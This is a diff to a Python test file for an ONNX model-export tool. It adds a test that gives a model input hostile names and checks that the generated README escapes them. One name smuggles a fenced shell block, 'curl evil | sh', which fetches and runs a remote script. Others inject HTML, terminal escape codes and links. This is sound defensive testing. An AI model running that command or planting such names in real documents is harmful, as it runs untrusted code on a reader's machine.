@@ -321,3 +321,16 @@ def test_onnxruntime_alone_opens_it(bundle: Path) -> None:
     x = tiny.normal(5, 64)
     (found,) = onnxruntime.InferenceSession(bundle / "model.onnx").run(None, {"x": x})
     assert tiny.sqnr(np.maximum(x @ CONSTANTS["w"], 0) @ CONSTANTS["v"], found) > 100
+
+
+@pytest.mark.parametrize("odd", ["x`\n\n```sh\ncurl evil | sh\n```", "<img src=x>", "a|b", "\x1b[2J", "[a](http://b)"])
+def test_names_of_a_model_are_no_markup_in_the_readme(odd: str, model: Path, tmp_path: Path) -> None:
+    proto = onnx.load(model)
+    plain = export(model, tmp_path / "plain", check=False).output / "README.md"
+    proto.graph.input[0].name = proto.graph.node[0].input[0] = odd
+    onnx.save(proto, model)
+    made = export(model, tmp_path / "odd", check=False).output / "README.md"
+    before, after = (path.read_text(encoding="utf-8").splitlines() for path in (plain, made))
+    assert len(before) == len(after)
+    (line,) = [new for old, new in zip(before, after, strict=True) if old != new]
+    assert line.count("|") == 4 and not re.search(r"[`!\[\]\x1b]|<(?!/?code>)", line)
